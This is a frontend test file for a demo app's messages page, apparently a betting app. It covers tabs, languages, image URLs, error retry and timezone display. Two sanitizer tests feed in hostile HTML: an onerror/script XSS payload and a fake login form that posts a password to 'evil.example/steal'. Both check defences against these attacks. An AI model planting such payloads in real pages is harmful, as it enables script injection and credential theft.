import { afterEach, describe, expect, it, vi } from 'vitest'
import { fireEvent, screen, waitFor, within } from '@testing-library/react'
import { MockResponse as Response } from '../../../mocks/lib/mock-response'
import { ok } from '../../../mocks/lib/envelope'
import { renderDemoApp } from '../../../tests/demo-app'
import { inViewerZone } from '../../../tests/viewer-zone'

let cleanup = () => {}
afterEach(() => cleanup())

async function open(opts: Parameters<typeof renderDemoApp>[1] = {}) {
  const app = await renderDemoApp('/message', { login: { username: 'demo', password: 'demo123' }, ...opts })
  cleanup = app.cleanup
  return app
}

describe('messages (/message)', () => {
  it('news tab: collapsible items whose content opens on tap', async () => {
    await open()
    const item = await screen.findByTestId('article-101')
    expect(item.textContent).toBe('Racing rooms are open')
    expect(screen.getByTestId('article-102').textContent).toBe('Four languages')
    expect(screen.queryByText(/same rounds, countdown/)).toBeNull()
    fireEvent.click(item)
    expect(await screen.findByText(/same rounds, countdown and bet records/)).toBeTruthy()
  })

  it('a picture by path in a message loads from the API server, not the app’s origin', async () => {
    const app = await renderDemoApp('/user', { login: { username: 'demo', password: 'demo123' } })
    cleanup = app.cleanup
    app.server.post('/api/Game/getOneclassArticle', () =>
      ok([{ id: 5, title_yw: 'Pictured', content_yw: '<p>Look</p><img src="/uploads/a.png" alt="a"><img src="uploads/b.png" alt="b">' }]),
    )
    const api = 'https://api.example/v2'
    vi.spyOn(app.services.api, 'baseUrl', 'get').mockReturnValue(api)
    await app.router.navigate({ to: '/message' })
    fireEvent.click(await screen.findByTestId('article-5'))
    await waitFor(() => expect(document.querySelectorAll('.message-item-body img')).toHaveLength(2))
    expect([...document.querySelectorAll('.message-item-body img')].map((i) => i.getAttribute('src'))).toEqual([
      'https://api.example/uploads/a.png',
      'https://api.example/v2/uploads/b.png',
    ])
  })

  it('news tab loads category 9', async () => {
    // Start elsewhere: the news tab asks on mount, so the spy must be in place before /message opens.
    const app = await renderDemoApp('/user', { login: { username: 'demo', password: 'demo123' } })
    cleanup = app.cleanup
    const categories: unknown[] = []
    app.server.pretender.handledRequest = (_v: string, path: string, request: { requestBody: string }) => {
      if (path.endsWith('getOneclassArticle')) categories.push(JSON.parse(request.requestBody).category)
    }
    await app.router.navigate({ to: '/message' })
    expect((await screen.findByTestId('article-101')).textContent).toBe('Racing rooms are open')
    expect(categories).toEqual([9])
  })

  it('announcements tab loads category 14', async () => {
    const { server } = await open()
    const categories: unknown[] = []
    server.pretender.handledRequest = (_v: string, path: string, request: { requestBody: string }) => {
      if (path.endsWith('getOneclassArticle')) categories.push(JSON.parse(request.requestBody).category)
    }
    await screen.findByTestId('article-101')
    fireEvent.click(screen.getByText('Announcements'))
    expect((await screen.findByTestId('article-201')).textContent).toBe('Withdrawals arrive within 24 hours')
    expect(categories).toContain(14)
  })

  it.each([
    ['zh-CN', '赛车房间已开放'],
    ['zh-TW', '賽車房間已開放'],
    ['vi', 'Phòng đua xe đã mở'],
  ] as const)('titles in %s', async (locale, title) => {
    await open({ locale })
    expect((await screen.findByTestId('article-101')).textContent).toBe(title)
  })

  it('a missing language variant falls back to English, then to the plain field', async () => {
    const { server } = await open({ locale: 'vi' })
    server.post('/api/Game/getOneclassArticle', () => ({
      code: 1,
      data: [
        { id: 1, title: '简体', title_yw: 'English title', title_vi: '', content: '', content_yw: '<p>English body</p>' },
        { id: 2, title: '只有简体', title_yw: '', title_vi: '' },
      ],
      info: 'ok',
    }))
    fireEvent.click(await screen.findByText('Thông báo'))
    expect((await screen.findByTestId('article-1')).textContent).toBe('English title')
    expect(screen.getByTestId('article-2').textContent).toBe('只有简体')
  })

  it('server HTML is sanitized', async () => {
    const { server } = await open()
    server.post('/api/Game/getOneclassArticle', () => ({
      code: 1,
      data: [{ id: 7, title_yw: 'Hello', content_yw: '<p>Safe</p><img src=x onerror="window.__xss=1"><script>window.__xss=2</script>' }],
      info: 'ok',
    }))
    fireEvent.click(await screen.findByText('Announcements'))
    fireEvent.click(await screen.findByTestId('article-7'))
    const body = (await screen.findByText('Safe')).closest('.article-body')!
    expect(body.innerHTML).not.toMatch(/onerror|script/)
    expect((window as unknown as { __xss?: number }).__xss).toBeUndefined()
  })

  it('uses the article sanitizer: no styles, forms or inputs; links open in a new tab without an opener', async () => {
    const { server } = await open()
    server.post('/api/Game/getOneclassArticle', () => ({
      code: 1,
      data: [
        {
          id: 8,
          title_yw: 'Offer',
          content_yw:
            '<style>body{display:none}</style><p style="position:fixed">Read</p>' +
            '<form action="https://evil.example/steal"><input name="pwd" type="password"><button>Log in</button></form>' +
            '<a href="https://example.com/terms">terms</a>',
        },
      ],
      info: 'ok',
    }))
    fireEvent.click(await screen.findByText('Announcements'))
    fireEvent.click(await screen.findByTestId('article-8'))
    const body = (await screen.findByText('Read')).closest('.article-body')!
    expect(body.querySelector('style, form, input, button, [style]')).toBeNull()
    const link = within(body as HTMLElement).getByRole('link', { name: 'terms' })
    expect(link.getAttribute('href')).toBe('https://example.com/terms')
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
  })

  it('empty state (the "empty" scenario)', async () => {
    await open({ scenario: 'empty' })
    expect((await screen.findByTestId('messages-empty')).textContent).toBe('No messages yet.')
  })

  it('error state with a working retry; loading shows while the retry is in flight', async () => {
    const { server } = await open()
    await screen.findByTestId('article-101')
    server.post('/api/Game/getOneclassArticle', () => new Response(500, {}, {}))
    fireEvent.click(screen.getByText('Announcements'))
    const error = await screen.findByTestId('messages-error')
    expect(error.textContent).toContain('The server could not handle the request, please try again later')
    server.post('/api/Game/getOneclassArticle', () => ({ code: 1, data: [{ id: 201, title_yw: 'Back again' }], info: 'ok' }), {
      timing: 200,
    })
    fireEvent.click(within(error).getByRole('button', { name: 'Try again' }))
    expect(await screen.findByTestId('messages-loading')).toBeTruthy()
    await waitFor(() => expect(screen.getByTestId('article-201').textContent).toBe('Back again'))
  })
})

describe('messages for a viewer in New York', () => {
  inViewerZone('America/New_York')
  it("an opened message's date is the backend's (UTC+8), as every backend time is shown", async () => {
    const { server } = await open()
    // 07:00 on Jan 16 for the backend is 18:00 on Jan 15 in New York
    server.post('/api/Game/getOneclassArticle', () => ({
      code: 1,
      data: [{ id: 9, title_yw: 'Dated', content_yw: '<p>Body</p>', createtime: '2026-01-16 07:00:00' }],
      info: 'ok',
    }))
    fireEvent.click(await screen.findByText('Announcements'))
    fireEvent.click(await screen.findByTestId('article-9'))
    await screen.findByText('Body')
    expect(document.querySelector('.article-time time')!.textContent).toBe('1/16/26, 7:00 AM')
    expect(screen.queryByTestId('server-clock-note')).toBeNull()
  })
})
